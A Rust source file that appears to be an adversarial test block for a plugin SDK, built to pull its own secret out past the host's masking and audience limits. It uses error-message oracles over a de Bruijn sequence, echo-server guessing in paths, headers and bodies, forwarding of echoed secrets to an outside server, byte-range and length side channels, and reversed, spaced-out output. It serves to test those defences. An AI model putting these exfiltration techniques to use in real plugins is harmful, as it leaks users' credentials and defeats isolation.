//! A block type that tries to learn its secret: from the host's messages, from the masking, from
//! bodies that it forwards, from parts and compressed responses, and from exchanged tokens.

use std::collections::BTreeMap;

use blockyard_sdk::http::{self, Client, TokenSource};
use blockyard_sdk::prelude::*;
use blockyard_sdk::serde_json;

/// An HTTP server and a secret for it.
#[derive(Block)]
#[block(type = "courier-thief", version = 1, title = "Thief")]
pub(crate) struct Thief {
    /// Base URL of the requests.
    base_url: String,
    /// Base URL of a server outside the secret's audience.
    other_url: Option<String>,
    /// Token endpoint.
    #[allow(dead_code, reason = "a URL that the schema names")]
    token_url: Option<String>,
    /// Secret for the server.
    #[block(audience = "{config.base_url}", header = "authorization x-api-key")]
    token: Secret<String>,
    /// Secret for the token endpoint.
    #[block(audience = "{config.base_url}", token = "{config.token_url}")]
    key: Option<Secret<String>>,
}

/// Position of a guess in the request, and therefore in the response.
#[data]
#[derive(Clone, Copy, Default, PartialEq, Eq)]
#[serde(rename_all = "kebab-case")]
enum GuessPosition {
    /// In the path, which the server echoes.
    #[default]
    Path,
    /// In a header.
    Header,
    /// In the body.
    Body,
    /// In two headers, which the server joins.
    Split,
    /// Reversed in a header; the server reverses it again.
    Reversed,
}

/// Method of forwarding a body.
#[data]
#[derive(Clone, Copy, Default, PartialEq, Eq)]
#[serde(rename_all = "kebab-case")]
enum Forwarding {
    /// Unchanged.
    #[default]
    Unchanged,
    /// After reading the first byte.
    AfterFirstByte,
    /// In parts.
    Parts,
    /// In parts, each sent twice.
    Repeated,
}

#[operations]
impl Thief {
    /// Requests secrets from the host at pointers that together contain every possible secret.
    /// Returns the secret if the host masks it in an error.
    #[operation(read)]
    fn oracle(
        &self,
        /// Characters of the secret.
        alphabet: String,
        /// Length of the secret.
        length: usize,
    ) -> Result<Option<String>> {
        let text = sequence(alphabet.as_bytes(), length);
        let quoted = |from: usize, to: usize| {
            let pointer = String::from_utf8_lossy(&text[from..to]).into_owned();
            let secret: Secret<String> = serde_json::from_value(json!({ "$secret": format!("/{pointer}") }))
                .map_err(|error| Problem::invalid(error.to_string()))?;
            Ok::<_, Problem>(secret.handle().err().map(|problem| problem.to_string()).unwrap_or_default())
        };
        for from in (0..text.len()).step_by(1 << 20) {
            let to = (from + (1 << 20) + length).min(text.len());
            let message = quoted(from, to)?;
            if let Some(at) = message.find("********") {
                return Ok(Some(spelled(&message[..at])));
            }
        }
        // The host truncates long messages, so each guess is also tried separately.
        for window in text.windows(length).take(20_000) {
            let pointer = String::from_utf8_lossy(window);
            let secret: Secret<String> = serde_json::from_value(json!({ "$secret": format!("/{pointer}") }))
                .map_err(|error| Problem::invalid(error.to_string()))?;
            if secret.handle().err().is_some_and(|problem| problem.to_string().contains("********")) {
                return Ok(Some(spelled(&pointer)));
            }
        }
        Ok(None)
    }

    /// Sends guesses to a server that echoes them, and returns the one that is masked in the
    /// response.
    #[operation(read)]
    fn guess(
        &self,
        /// Guesses.
        guesses: Vec<String>,
        /// Position of the guess in the request.
        #[serde(default)]
        via: GuessPosition,
        /// Whether the request carries the secret.
        #[serde(default)]
        auth: bool,
    ) -> Result<Option<String>> {
        for guess in guesses {
            let (half, rest) = guess.split_at(guess.len() / 2);
            let reversed: String = guess.chars().rev().collect();
            let base = &self.base_url;
            let request = match via {
                GuessPosition::Path => http::get(format!("{base}/echo/{guess}")),
                GuessPosition::Header => http::get(format!("{base}/header")).header("x-guess", &guess),
                GuessPosition::Body => {
                    http::get(format!("{base}/body")).body(Body::from_bytes("text/plain", guess.as_bytes()))
                }
                GuessPosition::Split => http::get(format!("{base}/joined")).header("x-a", half).header("x-b", rest),
                GuessPosition::Reversed => http::get(format!("{base}/reversed")).header("x-guess", reversed),
            };
            let request = if auth { request.bearer(&self.token) } else { request };
            let answer = request.send()?.text()?;
            if answer.contains("********") && !answer.contains(&guess) {
                return Ok(Some(spelled(&guess)));
            }
        }
        Ok(None)
    }

    /// Fetches an echo of the secret and forwards it to another server.
    #[operation(write)]
    fn bounce(
        &self,
        /// Path of the echo.
        path: String,
        /// Path on the other server.
        to: String,
        /// Method of forwarding.
        #[serde(default)]
        how: Forwarding,
        /// Headers of the request for the echo.
        #[serde(default)]
        headers: BTreeMap<String, String>,
    ) -> Result<u16> {
        let mut request = http::get(format!("{}{path}", self.base_url)).bearer(&self.token);
        for (name, value) in headers {
            request = request.header(name, value);
        }
        let echo = request.send()?.body;
        let send =
            |body| http::post(format!("{}{to}", self.other_url.as_deref().unwrap_or_default())).body(body).send();
        let mut status = 0;
        match how {
            Forwarding::Unchanged => status = send(echo)?.status,
            Forwarding::AfterFirstByte => {
                echo.read(1)?;
                status = send(echo)?.status;
            }
            Forwarding::Parts | Forwarding::Repeated => {
                while let Some(part) = echo.take(5)? {
                    if how == Forwarding::Repeated {
                        send(part.again()?)?;
                    }
                    status = send(part)?.status;
                }
            }
        }
        Ok(status)
    }

    /// Fetches guesses that are stored on another server, and sends them to a server that echoes
    /// them. Returns the echo.
    #[operation(write)]
    fn borrow(&self) -> Result<String> {
        let stored = http::get(format!("{}/guesses", self.other_url.as_deref().unwrap_or_default())).send()?.body;
        http::post(format!("{}/body", self.base_url)).bearer(&self.token).body(stored).send()?.text()
    }

    /// Requests an echo one byte at a time.
    #[operation(read)]
    fn range(
        &self,
        /// Path of the echo.
        path: String,
        /// Number of bytes.
        count: u64,
    ) -> Result<String> {
        let mut all = String::new();
        for at in 0..count {
            let request = http::get(format!("{}{path}", self.base_url)).bearer(&self.token);
            all.push_str(&request.header("range", format!("bytes={at}-{at}")).send()?.text()?);
            all.push(' ');
        }
        Ok(all)
    }

    /// Sends a GET request with the secret in the given header.
    #[operation(read)]
    fn in_header(
        &self,
        /// Path on the server.
        path: String,
        /// Header name.
        header: String,
    ) -> Result<String> {
        http::get(format!("{}{path}", self.base_url)).secret_header(header, &self.token).send()?.text()
    }

    /// Exchanges the key for a token at the given endpoint.
    #[operation(read)]
    fn exchange(
        &self,
        /// Token endpoint.
        token_url: String,
        /// OAuth client ID.
        client_id: String,
    ) -> Result<u16> {
        let key = self.key.as_ref().ok_or_else(|| Problem::invalid("there is no key"))?;
        let client = Client { token_url: &token_url, client_id: &client_id, scopes: &[] };
        let source = TokenSource::client_credentials(&client, key);
        Ok(http::get(self.base_url.as_str()).token(source).send()?.status)
    }

    /// Returns every header and size that reveals the length of a response.
    #[operation(read)]
    fn length(
        &self,
        /// Path on the server.
        path: String,
    ) -> Result<Vec<String>> {
        let answer = http::get(format!("{}{path}", self.base_url)).bearer(&self.token).send()?;
        let size = answer.body.size().map(|size| size.to_string());
        let names = ["content-length", "content-range", "digest", "content-md5"];
        Ok(names.iter().filter_map(|name| answer.header(name).map(str::to_owned)).chain(size).collect())
    }

    /// Returns and logs its argument.
    #[operation(read)]
    fn say(
        &self,
        /// Text to return.
        text: String,
        /// Returns the text as an error.
        #[serde(default)]
        fail: bool,
    ) -> Result<String> {
        blockyard_sdk::log::warn(&text);
        if fail { Err(Problem::invalid(text)) } else { Ok(text) }
    }

    /// Guesses the secret while its output is read, after the operation has returned.
    #[operation(read)]
    fn guess_in_parts(
        &self,
        /// Guesses.
        guesses: Vec<String>,
    ) -> Result<InParts<u32>> {
        let base = self.base_url.clone();
        let mut guesses = guesses.into_iter();
        let parts = Parts::new(move || {
            let Some(guess) = guesses.next() else { return Ok(None) };
            let masked = http::get(format!("{base}/echo/{guess}")).send()?.text()?.contains("********");
            Ok(Some(Body::from_bytes("text/plain", if masked { b"yes" } else { b"no " })))
        });
        Ok(InParts { result: 0, parts })
    }
}

/// Returns the end of a text reversed and with blanks between the characters, which the masking
/// does not detect.
fn spelled(text: &str) -> String {
    text.chars().rev().take(12).map(String::from).collect::<Vec<_>>().join(" ")
}

/// Returns a de Bruijn sequence: it contains every string of this length over the alphabet.
fn sequence(alphabet: &[u8], length: usize) -> Vec<u8> {
    fn step(alphabet: &[u8], length: usize, at: usize, period: usize, word: &mut [usize], text: &mut Vec<u8>) {
        if at > length {
            if length.is_multiple_of(period) {
                text.extend(word[1..=period].iter().map(|letter| alphabet[*letter]));
            }
            return;
        }
        word[at] = word[at - period];
        step(alphabet, length, at + 1, period, word, text);
        for letter in word[at - period] + 1..alphabet.len() {
            word[at] = letter;
            step(alphabet, length, at + 1, at, word, text);
        }
    }
    let mut text = Vec::new();
    step(alphabet, length, 1, 1, &mut vec![0; alphabet.len() * length + 1], &mut text);
    let wrapped: Vec<u8> = text.iter().take(length - 1).copied().collect();
    text.extend(wrapped);
    text
}
